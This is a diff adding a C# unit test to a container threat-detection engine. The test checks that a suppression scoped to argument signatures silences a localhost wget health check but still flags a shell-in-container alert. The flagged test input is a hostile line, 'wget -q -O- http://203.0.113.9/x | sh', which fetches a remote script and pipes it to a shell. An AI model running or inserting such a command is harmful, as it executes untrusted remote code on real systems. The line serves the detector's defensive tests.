@@ -33,6 +33,28 @@ public sealed class SuppressionTests
             .First(s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);
 
     [Fact]
+    public void A_suppression_with_signatures_covers_only_an_ancestry_run_with_those_arguments()
+    {
+        var health = new DetectionEngine(Defaults).Evaluate(Batch(Exec(1, "/bin/busybox", "sh", "-c", "wget -q http://127.0.0.1:8080/health")))
+            .Single(s => s.RuleId == "wp.shell-in-container");
+        var signatures = NodeIdentity.SignaturesOf(health.Behaviour.Ancestry);
+        var suppression = SuppressionFor(health) with
+        {
+            Id = Suppression.MakeId(health.RuleId, health.Container.ImageName!, NodeIdentity.ForBehaviour(health.Behaviour), signatures),
+            Signatures = signatures,
+        };
+        var engine = new DetectionEngine(Defaults, new SuppressionSet([suppression]));
+
+        // The same check again (another id in the query string: normalized away) is suppressed…
+        Assert.DoesNotContain(engine.Evaluate(Batch(Exec(2, "/bin/busybox", "sh", "-c", "wget -q http://127.0.0.1:8080/health"))),
+            s => s.RuleId == "wp.shell-in-container");
+        // …the same node with an injected script is not.
+        var injected = engine.Evaluate(Batch(Exec(3, "/bin/busybox", "sh", "-c", "wget -q -O- http://203.0.113.9/x | sh")));
+        Assert.Contains(injected, s => s.RuleId == "wp.shell-in-container");
+        Assert.NotEqual(suppression.Id, Suppression.MakeId(health.RuleId, health.Container.ImageName!, suppression.NodeId, ["-c 'other'"]));
+    }
+
+    [Fact]
     public void Suppressed_behaviour_stops_raising_and_is_counted()
     {
         var suppressions = new SuppressionSet([SuppressionFor(EntrypointShellSignal())]);
